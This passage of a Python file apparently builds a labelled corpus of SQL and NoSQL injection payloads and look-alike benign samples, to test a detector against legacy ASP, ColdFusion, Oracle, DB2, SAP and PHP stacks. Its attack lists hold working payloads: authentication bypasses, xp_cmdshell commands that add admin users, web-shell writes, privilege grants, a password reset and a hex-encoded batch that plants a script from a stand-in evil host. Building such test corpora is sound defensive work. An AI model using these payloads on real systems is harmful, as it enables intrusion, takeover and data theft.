    ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soap:Body><GetPrice xmlns=\"http://tempuri.org/\"><sku>1 and ascii(substring(db_name(),1,1))>64</sku>"
     "</GetPrice></soap:Body></soap:Envelope>",) + XML,
]

# sql-authentication-bypass: the login forms of the old stacks
AUTH: list[Entry] = [
    # classic ASP login.asp on Microsoft Access: both fields "' or ''='" and friends
    "' or ''='",
    "' or 1=1 or ''='",
    "'or''='",
    # classic ASP / ASP.NET on SQL Server
    "sa' or 1=1--",
    "' union select 1,'admin','x',1--",
    # ASP.NET WebForms login (ctl00$MainContent$txtUser)
    "admin' or 'x'='x'--",
    # ColdFusion login with PreserveSingleQuotes(form.username)
    "admin' or '1'='1",
    # ColdFusion numeric PIN field (#form.pin# unquoted)
    "1234 or 1=1",
    # Perl CGI login on MySQL
    "admin' #",
    "' or 1=1 limit 1#",
    # old PHP CMS: the union row carries md5('admin') as the stored hash
    "x' and 1=0 union select 1,'admin','21232f297a57a5a743894a0e4a801fc3'#",
    # Oracle Portal / mod_plsql custom login
    "' or exists(select 1 from dual)--",
    "x') or ('1'='1",
    # Struts 1 / Struts 2 login action on Oracle or DB2 (java.sql.Statement)
    "admin' or '1'='1' --",
    "db2admin'--",
    # Informix and Sybase
    "admin' or 1=1 {",
    "sa' or 'x'='x",
    # AS/400 web login on DB2 for i
    "QSECOFR' OR '1'='1",
    # SAP BSP login built with an ABAP dynamic WHERE on USR02 (no comments in Open SQL)
    "' OR bname LIKE '%",
    "x' OR bname <> '",
    # Tomcat-hosted login servlet (custom, not the realm) on MySQL
    "tomcat' or 'a'='a'#",
    # Lotus Domino custom login agent over DB2
    "' or 'x' like 'x",
    # JBoss Seam HQL login (no comments, quotes balanced)
    "admin' or '1'='1' and ''='",
    # password field only: numeric hash comparison
    "x' or 1=1)--",
    # SOAP login on a WebSphere/JAX-RPC service
    ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soapenv:Body><login><user>admin' or '1'='1' --</user><password>x</password></login></soapenv:Body>"
     "</soapenv:Envelope>",) + XML,
    # XML-RPC login of an old PHP CMS
    ('<?xml version="1.0"?><methodCall><methodName>metaWeblog.getRecentPosts</methodName><params>'
     "<param><value><string>1</string></value></param><param><value><string>admin' or 1=1#</string></value>"
     "</param><param><value><string>x</string></value></param></params></methodCall>",) + XML,
    # classic ASP cookie-held login (Response.Cookies("user") read back into SQL)
    ("admin'or'1'='1", "cookie", "rs-cookie"),
]

# nosql-injection: MongoDB and CouchDB behind older PHP and Java stacks
NOSQL: list[Entry] = [
    # PHP 5 with the legacy ext/mongo driver: $_POST arrays become operators
    ("user[$ne]=1&pass[$ne]=1",) + KV,
    ("login=admin&password[$gt]=",) + KV,
    ("login[$regex]=^adm&password[$ne]=x",) + KV,
    ("username=admin&password[$nin][]=x",) + KV,
    ("user[$exists]=true&pass[$exists]=true",) + KV,
    ("login[$in][]=admin&login[$in][]=root&password[$ne]=",) + KV,
    ("username=admin&password[$regex]=.*",) + KV,
    ("user[$gt]=&pass[$gt]=",) + KV,
    # MongoDB via a JSON login on a Java (Struts 2 JSON plugin) service
    ('{"login":{"$ne":""},"password":{"$ne":""}}',) + JB,
    ('{"login":"admin","password":{"$regex":"^a"}}',) + JB,
    ('{"login":{"$in":["admin","sysadmin","root"]},"password":{"$gt":""}}',) + JB,
    ('{"login":"admin","password":{"$exists":true,"$ne":"x"}}',) + JB,
    ('{"$or":[{"login":"admin"},{"login":{"$ne":""}}],"password":{"$gt":""}}',) + JB,
    ('{"login":"admin","$where":"this.password.length>0"}',) + JB,
    ('{"$where":"sleep(5000)"}',) + JB,
    # CouchDB / IBM Cloudant Mango selectors (the same operators)
    ('{"selector":{"type":"user","password":{"$gt":null}}}',) + JB,
    ('{"selector":{"name":{"$regex":"^adm"},"password":{"$exists":true}},"fields":["name","password"]}',) + JB,
    ('{"selector":{"roles":{"$elemMatch":{"$eq":"_admin"}}}}',) + JB,
    # $where built by string concatenation in a Java DAO (new BasicDBObject("$where", "this.u=='" + u + "'"))
    "' || '1'=='1",
    "admin' || this.password.length>0 || '",
    "'; return true; var z='",
    "'; while(true){}; '",
    "'; sleep(5000); var q='",
    "' || this.isAdmin==true || '",
    "admin' && this.password.match(/^a/) && 'a'=='a",
    "' || tojson(this).match(/admin/) || '",
    # $where via PHP ext/mongo find(array('$where' => "this.id == $id"))
    "0 || 1==1",
    "1; return db.users.find().count()>0",
]

# hex/char encoding: strings and whole statements written without quotes
ENCODING: list[Entry] = [
    # SQL Server behind classic ASP: the 2008 mass-injection shape, a hex-cast batch run through EXEC
    "';declare @s varchar(8000);set @s=0x73656c65637420404076657273696f6e;exec(@s)--",
    ("1;DECLARE @S VARCHAR(4000);SET @S=CAST(0x"
     "4445434C415245204054205641524348415228323535292C404320564152434841522832353529204445434C415245205461"
     "626C655F437572736F7220435552534F5220464F522053454C45435420612E6E616D652C622E6E616D652046524F4D207379"
     "736F626A6563747320612C737973636F6C756D6E73206220574845524520612E69643D622E696420414E4420612E78747970"
     "653D27752720414E442028622E78747970653D3939204F5220622E78747970653D3335204F5220622E78747970653D323331"
     "204F5220622E78747970653D31363729204F50454E205461626C655F437572736F72204645544348204E4558542046524F4D"
     "205461626C655F437572736F7220494E544F2040542C4043205748494C4528404046455443485F5354415455533D30292042"
     "4547494E20455845432827555044415445205B272B40542B275D20534554205B272B40432B275D3D525452494D28434F4E56"
     "45525428564152434841522834303030292C5B272B40432B275D29292B27273C736372697074207372633D687474703A2F2F"
     "6A732E6576696C2E6578616D706C652F6E67672E6A733E3C2F7363726970743E27272729204645544348204E455854204652"
     "4F4D205461626C655F437572736F7220494E544F2040542C404320454E4420434C4F5345205461626C655F437572736F7220"
     "4445414C4C4F43415445205461626C655F437572736F72"
     " AS VARCHAR(4000));EXEC(@S);--"),
    "1;declare @c varchar(99);set @c=0x65786563206d61737465722e2e78705f636d647368656c6c202777686f616d6927;exec(@c)",
    "' union select char(97)+char(100)+char(109)+char(105)+char(110),null--",
    "1 and user=char(100)+char(98)+char(111)",
    "' and 1=convert(int,char(65)+char(66))--",
    # classic ASP on IIS drops a '%' not followed by two hex digits, so the keyword rejoins after the filter
    ("id=1 un%ion sel%ect 1,@@version,3--",) + KV,
    ("id=1;ex%ec master..xp_cm%dshell 'whoami'--",) + KV,
    ("ProductID=1 a%nd 1=conv%ert(int,db_name())",) + KV,
    # Microsoft Access: chr() joined with '&'
    "' or username=chr(97)&chr(100)&chr(109)&chr(105)&chr(110) or ''='",
    # Oracle
    "' or username=chr(83)||chr(89)||chr(83)--",
    "' and utl_raw.cast_to_varchar2(hextoraw('53595354454d'))=user--",
    "' or username=unistr('\\0061\\0064\\006d\\0069\\006e')--",
    # DB2 on z/OS and IBM i: hex string constants, EBCDIC on the mainframe and AS/400
    "' or name=x'41444d494e'--",
    "' or usrprf=x'C1C4D4C9D5'--",
    "' union select hex(current sqlid),null from sysibm.sysdummy1--",
    # Informix
    "' or name=chr(97)||chr(100)||chr(109)||chr(105)||chr(110)--",
    # Sybase ASE
    "1 and user_name()=char(100)+char(98)+char(111)",
    # MySQL under old PHP CMSs: hex literals, char(), and the unhex(hex()) collation fix
    "-1 union select 1,2,3 from jos_users where username=0x61646d696e",
    "' or username=char(97,100,109,105,110)#",
    "-1 union select 1,unhex(hex(password)),3 from mos_users--",
    "-1 union select 0x3c3f7068702073797374656d28245f4745545b2763275d293b3f3e into outfile '/var/www/s.php'#",
    "-1 union select 1,load_file(0x2f6574632f706173737764),3--",
    # PostgreSQL behind a Perl CGI
    "' or username=convert_from(decode('61646d696e','hex'),'utf8')--",
    "' or username=chr(97)||chr(100)||'min'--",
    # SAP HANA
    "' or user_name=bintostr(x'53595354454d')--",
    # ColdFusion + SQL Server numeric id, EXEC of a char()-built string
    "1;EXEC(CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84)+CHAR(32)+CHAR(49))",
]

# stored-procedure/xp_cmdshell: commands and privilege changes through the database's own procedures
PROC: list[Entry] = [
    # SQL Server behind classic ASP / ASP.NET
    "'; exec master..xp_cmdshell 'net user hax P@ssw0rd /add'--",
    "';exec master.dbo.xp_cmdshell 'ping -n 3 10.10.14.7'--",
    "';exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure--",
    "';exec sp_addextendedproc 'xp_cmdshell','xplog70.dll'--",
    ("';exec xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run','x','REG_SZ',"
     "'c:\\x.exe'--"),
    ("';declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,"
     "'cmd /c whoami > c:\\inetpub\\wwwroot\\w.txt'--"),
    "';exec master..xp_cmdshell 'echo ^<%execute request(\"x\")%^> > c:\\inetpub\\wwwroot\\x.asp'--",
    "';exec master..xp_servicecontrol 'start','schedule'--",
    "';exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\W3SVC','ImagePath'--",
    # ColdFusion + SQL Server numeric id
    "1;EXEC master..xp_cmdshell 'dir c:\\CFusionMX7\\lib'",
    # Sybase ASE via XP Server
    "'; exec master..xp_cmdshell 'id'--",
    # Oracle: DBMS_XMLQUERY runs an autonomous PL/SQL block from a SELECT; DBMS_JAVA.RUNJAVA
    ("' and (select dbms_xmlquery.newcontext('declare pragma autonomous_transaction;begin execute immediate "
     "''grant dba to public'';commit;end;') from dual) is not null--"),
    "' and 1=dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id')--",
    ("' and sys.dbms_export_extension.get_domain_index_tables('FOO','BAR','DBMS_OUTPUT\".PUT(:P1);EXECUTE IMMEDIATE "
     "''DECLARE PRAGMA AUTONOMOUS_TRANSACTION;BEGIN EXECUTE IMMEDIATE ''''grant dba to public'''';END;'';END;--',"
     "'SYS',0,'1',0) is not null--"),
    # Oracle EBS: reset SYSADMIN through FND_USER_PKG in a mod_plsql anonymous block
    ("';begin apps.fnd_user_pkg.updateuser(x_user_name=>'SYSADMIN',x_owner=>null,"
     "x_unencrypted_password=>'Welcome1');commit;end;--"),
    # Oracle PL/SQL gateway: OWA_UTIL.CELLSPRINT runs whatever query its parameter names
    ("p_thequery=select username,password from sys.dba_users",) + KV,
    ("P_THEQUERY=select user_name,encrypted_user_password from apps.fnd_user",) + KV,
    # DB2 for i: QCMDEXC runs a CL command (the old form takes the length as DECIMAL(15,5))
    "';call qsys2.qcmdexc('CRTUSRPRF USRPRF(HAX) PASSWORD(HAX1) USRCLS(*SECOFR)')--",
    "1;call qsys.qcmdexc('DLTLIB LIB(PRODLIB)',0000000019.00000)",
    # DB2 LUW: ADMIN_CMD export of the authorisation catalog
    "';call sysproc.admin_cmd('export to /tmp/u.del of del select * from syscat.dbauth')--",
    # Informix SPL: SYSTEM runs an OS command as the server user
    "'; create procedure px() system 'id > /tmp/o'; end procedure; execute procedure px()--",
    # PostgreSQL 8.1 and older behind a Perl CGI: libc system() as a C function
    ("';create or replace function sx(cstring) returns int as '/lib/libc.so.6','system' language c strict;"
     "select sx('id')--"),
    # MySQL with lib_mysqludf_sys under an old PHP CMS
    "' union select 1,sys_eval('id')#",
    # H2 behind a JBoss console: Java alias
    ("';CREATE ALIAS EXECX AS $$ String e(String c) throws Exception { Runtime.getRuntime().exec(c); return c; }$$;"
     "CALL EXECX('id')--"),
    # HSQLDB: static Java method call
    "';CALL \"java.lang.System.setProperty\"('com.sun.jndi.ldap.object.trustURLCodebase','true')--",
    # SQL Server via a SOAP .asmx service
    ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soap:Body><GetStock xmlns=\"http://tempuri.org/\"><itemId>1;exec master..xp_cmdshell 'whoami'--</itemId>"
     "</GetStock></soap:Body></soap:Envelope>",) + XML,
]

# having/group-by/order-by probing: column counting, the HAVING error that names columns, sort-parameter oracles
ORDER: list[Entry] = [
    # SQL Server behind classic ASP: "Column 'users.id' is invalid in the select list" names each column in turn
    "' having 1=1--",
    "' group by users.id having 1=1--",
    "' group by users.id,users.username having 1=1--",
    "1 order by 10--",
    "' order by 5--",
    "1 order by case when (1=1) then 1 else 1/0 end",
    # ColdFusion ORDER BY #url.sort# on SQL Server
    "(case when (select top 1 substring(name,1,1) from sysobjects)='a' then name else email end)",
    "name,(select case when system_user='sa' then 1 else 1/0 end)",
    # Oracle: iBATIS 2 $orderBy$ substitution in a Struts 2 action, EBS
    "1 order by 8--",
    "(case when (select user from dual)='APPS' then 1 else 1/0 end)",
    "username desc,(select 1 from dual)",
    # DB2 behind WebSphere
    "1 order by 6 fetch first 1 rows only--",
    "(case when current user='DB2ADMIN' then name else email end)",
    # MySQL under old PHP CMSs: LIMIT-clause injection through PROCEDURE ANALYSE (MySQL 5.0-5.6)
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1 order by 11#",
    "(select if(substr(user(),1,1)='r',username,email))",
    ("1,(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables "
     "group by x)a)"),
    "rand(ascii(mid(user(),1,1))>64)",
    # Informix and Sybase
    "1 order by 9 {",
    "' group by username having 1=1--",
    # Microsoft Access
    "1 order by 7",
    "' group by userid having 1=1 and ''='",
    # PostgreSQL behind a Perl CGI
    "1 order by (select case when current_user='postgres' then 1 else cast('a' as int) end)",
    # H2 behind a JBoss console
    "1 order by (select case when user()='SA' then 1 else 1/0 end)",
    # HAVING with an aggregate probe (Sybase / SQL Server)
    "1 having sum(1)>0--",
    # SOAP report service on WebSphere over DB2: sort field
    ('<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soapenv:Body><listOrders><sortBy>1 order by 9--</sortBy></listOrders></soapenv:Body></soapenv:Envelope>",)
    + XML,
]

# like/between/in operators: the pattern and range oracles
OPERATORS: list[Entry] = [
    # Microsoft Access via ADO (ANSI '%' wildcard)
    "' or password like '%' or ''='",
    # SQL Server behind classic ASP
    "' or name like '%'--",
    "1 and system_user like 's%'",
    "1 and substring(@@version,22,4) between '2000' and '2008'",
    "' or 1 in (select top 1 1 from sysobjects)--",
    "1 and db_name() in ('master','msdb')",
    "' and (select top 1 name from sysobjects where xtype='U') like 'tbl%'--",
    # Oracle and the EBS fingerprint
    "' or user like 'APP%'--",
    "' and (select banner from v$version where rownum=1) like 'Oracle Database 1%'--",
    "' and (select count(*) from all_users where username in ('APPS','APPLSYS'))=2--",
    "' and 1 between 0 and 2--",
    "' and regexp_like((select user from dual),'^APP')--",
    # DB2 on z/OS (location names) and DB2 for i
    "' or 1 in (select 1 from sysibm.sysdummy1)--",
    "' and current server like 'DSN%'--",
    # Informix MATCHES
    "' or tabname matches 'sys*'--",
    "' or name matches '*'--",
    # Sybase ASE
    "1 and @@servername like '%SYB%'",
    # MySQL under old PHP CMSs
    "1 and user() like 'root@%'",
    "' or username rlike '^adm'#",
    "1 and ascii(mid(user(),1,1)) between 100 and 120",
    "' or password regexp '^[a-f0-9]{32}$'#",
    "1 and version() like '4.%'",
    "' or username sounds like 'admin'#",
    # SAP HANA
    "' or user_name like 'SAP%'--",
    # HSQLDB
    "' or 1 in (select 1 from information_schema.system_users)--",
    # PostgreSQL behind a Perl CGI
    "' or username ilike 'ADM%'--",
    "' or id not in (0)--",
    # SOAP search on ASP.NET .asmx over SQL Server
    ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
     "<soap:Body><Search xmlns=\"http://tempuri.org/\"><term>%' or name like '%</term></Search></soap:Body>"
     "</soap:Envelope>",) + XML,
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# fixed `name=value` entries of these sub-families go unquoted (PHP bracket operators, IIS '%', OWA_UTIL)
RAW_KV_SUBS = {"nosql-injection", "hex-char-encoding", "stored-procedure-xp-cmdshell"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["id", "ProductID", "ctl00$MainContent$txtSearch", "p_id", "txtUserName", "sort", "storeId", "catid",
             "searchString", "userid", "q"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^%"
    raw_places = ("form", "rs-param-name")
    documents = True   # SOAP and XML-RPC envelopes go as the whole XML body
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """Only the fixed `name=value` entries (not envelopes or cookies) are raw."""
        return super().is_raw(sub, payload, fixed) and not payload.startswith("<")

    def fits(self, place: str, v: str) -> bool:
        """Control characters only where a parameter is percent-encoded or JSON."""
        if any(ch < " " and ch not in "\n\t" for ch in v):
            return place in ("query", "form", "json", "rs-query", "rs-form", "rs-json")
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by enterprise IT staff (migration chat, bios, searches for colleagues,
# vendor documentation links, quoted error codes, export and report file names, ordinary headers)
CHAT = [
    # migrations off the old platforms
    "CHG0041877 approved: classic ASP intranet moves to the new portal on 14 March, IIS 6 box gets switched off after",
    "the ColdFusion 9 server cfprod02 is finally out of support, we're porting the last cfquery pages to Python",
    "Oracle EBS 12.1.3 upgrade to 12.2.12 is scheduled for the Easter weekend, freeze starts Thursday",
    "DB2 for z/OS v12 to v13 migration rehearsal went fine, CATMAINT ran in 14 minutes",
    "AS/400 team says the RPG programs for order entry stay until 2026, only the green screens get a web front",
    "we're retiring the Lotus Domino mail servers, the last NSF databases go to SharePoint next quarter",
    "JBoss 5.1 to WildFly 26 port is blocked on a Seam 2 dependency, ticket INC0098812",
    "WebLogic 10.3.6 console is only reachable from the jump host now, per the audit finding",
    "Struts 1 app 'claims-intake' gets rewritten in Spring Boot, estimate is 3 sprints",
    "Tomcat 7 manager app removed from all prod nodes, use the deploy pipeline instead",
    "Informix 11.70 on hrdb01 is the last one; export to Postgres via unload files, not ODBC",
    "Sybase ASE 15.7 to SQL Server 2019 migration: SSMA handled most of the T-SQL, the rest is in the wiki",
    "SAP ECC to S/4HANA conversion: SUM run 2 finished, the custom Z programs list is attached",
    "the SOAP service for price lookups still uses WS-Security UsernameToken, partners refuse to move to REST",
    "XML-RPC endpoint on the old blog is disabled, the marketing team confirmed nobody uses it",
    "Perl CGI scripts under /cgi-bin/ on the reporting box were replaced by the Grafana dashboards",
    "Joomla 1.5 site for the sports club finally migrated, the jos_ tables are archived in the backup bucket",
    "phpBB 2 forum export is done, the new Discourse import kept all the old threads",
    # mainframe and batch jobs
    "job PAYR0310 abended with S0C7 again, the copybook PAYREC01 has a packed field with spaces",
    "JCL for the nightly extract is in PROD.JCLLIB(EXTRDAY), don't edit it without a CR",
    "CICS region CICSP01 recycled at 02:00, transactions back by 02:07",
    "the COBOL copybook CUSTMAST changed length, the Java reader needs the new layout",
    "DB2 SQLCODE -911 on the batch update, it was a deadlock with the online region, rerun worked",
    "SQLCODE -805 after the package rebind, the collection id was wrong in the bind job",
    "SQLSTATE 42704 in the DB2 LUW migration means the object doesn't exist, check the schema name",
    "IBM i job QZDASOINIT was using 90% CPU, it's the ODBC jobs from the reporting tool",
    "the WRKACTJOB screen shows QPADEV0012 hung, ending it",
    "JES2 spool is at 80%, purging old output classes",
    # SAP
    "SU01 shows the user locked after the password reset, unlock with SU01 not SM19",
    "transaction SM37 has the failed job ZFI_RECON_DAILY, the log says no authorization for S_TABU_DIS",
    "SE16N access for auditors is approved for table BKPF only, read only",
    "ST22 dump DBSQL_SQL_ERROR on the HANA side, the index was missing after the import",
    "SE38 report ZSD_ORDER_LIST times out on large selections, adding a date range default",
    "basis team patched the kernel to 7.53 PL 1200 on all app servers",
    "STMS import queue for PRD is locked until the change board approves CAB-2231",
    # Oracle
    "ORA-01017 invalid username/password after the vault rotation, the EBS APPS password was updated in the wallet",
    "ORA-00942 table or view does not exist on the report, the synonym was dropped in the clone",
    "ORA-12154 TNS could not resolve, someone overwrote tnsnames.ora on the app tier",
    "concurrent request 48812231 stuck in Pending Standby, the manager was down",
    "the FND_USER cleanup for leavers runs monthly now, script is in the EBS repo",
    "PL/SQL gateway (mod_plsql) is gone in 12.2, everything goes through ORDS now",
    "run adop phase=prepare first, then apply, then cutover; don't skip fs_clone after",
    # SQL Server and ASP.NET
    "Msg 4060 cannot open database requested by the login, the default database was dropped",
    "SQL Server Agent job 'Nightly Index Maintenance' failed step 2, log is on sqlprd04",
    "the ASP.NET WebForms ViewState error is back, machineKey differs between web01 and web02",
    "Microsoft OLE DB Provider for ODBC Drivers error '80004005' was the DSN pointing to the old server",
    "we turned off xp_cmdshell on every instance in 2019, the audit script checks it weekly",
    "the Access 2003 .mdb used by facilities is being moved to a proper SQL Server table",
    "ADO recordset timeouts on the classic ASP reports, CommandTimeout was 30 seconds",
    "waitfor delay in the deployment script is intentional, the replica needs a few seconds",
    # general enterprise IT
    "change window tonight 22:00-02:00 UTC, rollback plan is in the CR",
    "select your slot for the DR test, the sign-up sheet is in the channel topic",
    "the union of both vendor lists is in the spreadsheet, duplicates removed",
    "order by priority then due date, that's how the service desk queue should sort",
    "group by cost centre for the licence true-up report",
    "having the DBA on the bridge made the cutover much faster, thanks Raj",
    "between 1 and 3 am the batch window overlaps the backups, we need to move one",
    "anyone have the runbook for the WebSphere 8.5 cluster restart?",
    "the Domino Designer client won't run on Windows 11, using a VM for the last changes",
    "hex dump of the EBCDIC file shows the X'0D25' line endings, convert with iconv -f IBM-037",
    # bios
    "Mainframe engineer, 25 years of COBOL, JCL, CICS and DB2 for z/OS. Ask me about copybooks.",
    "SAP Basis consultant. HANA, S/4 conversions, transports, and too many kernel patches.",
    "Oracle Apps DBA: EBS 11i to 12.2, RAC, Data Guard. On call every fourth week.",
    "IBM i (AS/400) developer. RPG IV, CL, DB2 for i, and a soft spot for green screens.",
    "Legacy modernisation lead: classic ASP, ColdFusion and Struts apps into cloud services.",
    "Middleware admin: WebSphere, WebLogic, JBoss, Tomcat. Keeper of the keystores.",
    "Lotus Notes/Domino developer turned SharePoint migrator. LotusScript forever.",
    "Informix and Sybase DBA, now mostly PostgreSQL. Still remember dbaccess shortcuts.",
]

SEARCHES = [
    "cobol", "mainframe", "sap basis", "abap", "oracle ebs", "db2", "as/400", "ibm i", "rpg", "websphere",
    "weblogic", "jboss", "domino", "lotus notes", "coldfusion", "classic asp", "sybase", "informix", "struts",
    "tomcat", "cics", "jcl", "hana", "dba", "o'connor", "d'souza", "select", "union", "order", "between",
    "like", "having", "soap", "xml-rpc", "perl", "access", "sql server", "plsql", "fnd", "qsecofr",
    "Sybase ASE", "EBS APPS", "JES2", "SU01", "SM37",
]

URLS = [
    "https://www.ibm.com/docs/en/db2-for-zos/13?topic=codes-sql-error",
    "https://www.ibm.com/docs/en/i/7.5?topic=services-qcmdexc-procedure",
    "https://www.ibm.com/docs/en/informix-servers/14.10?topic=statements-unload-statement",
    "https://www.ibm.com/docs/en/was/8.5.5?topic=servers-starting-stopping",
    "https://docs.oracle.com/cd/E26401_01/doc.122/e22953/T174296T174306.htm",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/errmg/ORA-00942.html",
    "https://docs.oracle.com/cd/E24329_01/web.1211/e24446/toc.htm",
    "https://help.sap.com/docs/SAP_S4HANA_ON-PREMISE/conversion-guide",
    "https://help.sap.com/doc/saphelp_nw75/7.5.5/en-US/transaction-su01.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/previous-versions/iis/6.0-sdk/ms524310(v=vs.90)",
    "https://learn.microsoft.com/en-us/sql/ssma/sybase/sql-server-migration-assistant-for-sybase-sybasetosql",
    "https://helpx.adobe.com/coldfusion/cfml-reference/coldfusion-tags/tags-p-q/cfqueryparam.html",
    "https://tomcat.apache.org/tomcat-7.0-doc/manager-howto.html",
    "https://struts.apache.org/migration/",
    "https://www.hcl-software.com/domino/documentation",
    "https://confluence.example.com/display/MAINF/PAYR0310+abend+S0C7+runbook",
    "https://servicedesk.example.com/browse/CHG0041877",
    "https://wiki.example.com/legacy/classic-asp-decommission?section=order-by-report",
]

PROSE = [
    "COBOL copybook owners",
    "DB2 SQLCODE -911 runbook",
    "SAP SU01 user admins",
    "Oracle EBS APPS password rotation",
    "ORA-01017 troubleshooting",
    "Msg 4060 default database",
    "classic ASP decommission team",
    "ColdFusion 9 retirement",
    "WebSphere cluster restart on-call",
    "Domino to SharePoint migration squad",
    "AS/400 green screen users",
    "JCL PROD.JCLLIB owners",
    "select committee for the vendor review",
    "union representatives",
    "order entry team (RPG)",
    "between-shift handover group",
    "users like the old portal",
    "group by region report owners",
    "having access to SM37",
    "people in cost centre 4100 or 4200",
    "S/4HANA conversion",
    "PL/SQL developers",
    "Sybase to SQL Server migration",
    "Informix unload export",
    "xp_cmdshell audit",
    "SOAP partner integrations",
    "XML-RPC users",
    "Perl CGI maintainers",
    "Struts 1 claims-intake",
    "JBoss 5.1 to WildFly",
    "Tomcat manager access review",
    "WebLogic 10.3.6 admins",
    "O'Neill, Siobhan",
    "D'Arcy",
    "EBCDIC conversion help",
    "SQLSTATE 42704",
    "hex editor licence",
    "char set IBM-037",
    "FND_USER leavers",
    "QZDASOINIT high CPU",
]

PROFILES = [
    ("Marge Cobol", "Mainframe Ave 1, Poughkeepsie"),
    ("Hans Basis", "Dietmar-Hopp-Allee 16, Walldorf"),
    ("Union Bank Ops", "Union Sq 5, San Francisco"),
    ("Siobhan O'Neill", "Dame St 9, Dublin"),
    ("Rahul D'Mello", "Hiranandani Gardens 3, Mumbai"),
    ("Select Logistics", "Dock Rd 14, Rotterdam"),
    ("Orderly Systems Ltd", "Mill Lane 2, Leeds"),
    ("Domino's Pizza Franchise 4411", "High St 22, Reading"),
    ("Lotus Garden Restaurant", "Canal St 8, Manchester"),
    ("Sybil Ase", "Ringstrasse 4, Vienna"),
    ("Access Facilities Mgmt", "Station Rd 6, Croydon"),
    ("Tomcat Veterinary Clinic", "Elm Rd 12, Oxford"),
    ("Struts & Co Scaffolding", "Quay St 3, Glasgow"),
    ("Weblogic Consulting", "Keizersgracht 120, Amsterdam"),
    ("Having Coffee Roasters", "Rua das Flores 40, Porto"),
    ("Between Rivers Farm", "Route 9, Lancaster PA"),
    ("Mainframe Museum", "Computer Hill 1, Mountain View"),
    ("Hana Kim", "Gangnam-daero 300, Seoul"),
    ("Informix User Group", "Lenexa Dr 10, Kansas"),
    ("Perl Harbour Tours", "Kamehameha Hwy 2, Honolulu"),
]

UPLOAD_NAMES = [
    "CUSTMAST.cpy", "PAYREC01 copybook v3.txt", "EXTRDAY.jcl.txt", "db2-sqlcode-911-analysis.pdf",
    "fnd_user_leavers_2024-06.csv", "SU01_locked_users_export.xlsx", "SM37_failed_jobs_June.xlsx",
    "classic-asp-inventory.xlsx", "coldfusion-cfquery-pages.csv", "websphere-8.5-cluster-runbook.docx",
    "domino-nsf-migration-plan.pptx", "sybase-to-mssql-ssma-report.html", "informix_unload_hrdb01.tar.gz",
    "ebs-12.2-upgrade-checklist.pdf", "S4HANA_custom_Z_programs.xlsx", "order_by_region_Q2.xlsx",
    "union-contract-2024.pdf", "weblogic_10.3.6_decom.docx", "tomcat-manager-access-review.csv",
    "struts1-claims-intake-estimate.xlsx", "ORA-01017 incident timeline.docx", "xp_cmdshell_audit_2024.csv",
    "EBCDIC_IBM-037_sample.bin", "soap-partner-endpoints.wsdl", "access2003_facilities.mdb",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"),
    ("User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)"),
    ("User-Agent", "Apache-HttpClient/4.5.13 (Java/1.8.0_381)"),
    ("User-Agent", "Java/1.6.0_45"),
    ("User-Agent", "SAP NetWeaver Application Server (1.0;753)"),
    ("User-Agent", "Lotus-Domino/9.0.1"),
    ("User-Agent", "IBM WebSphere Application Server/8.5"),
    ("User-Agent", "Axis/1.4"),
    ("Referer", "https://intranet.example.com/default.asp?page=directory&dept=finance"),
    ("Referer", "https://ebs.example.com/OA_HTML/OA.jsp?OAFunc=OAHOMEPAGE"),
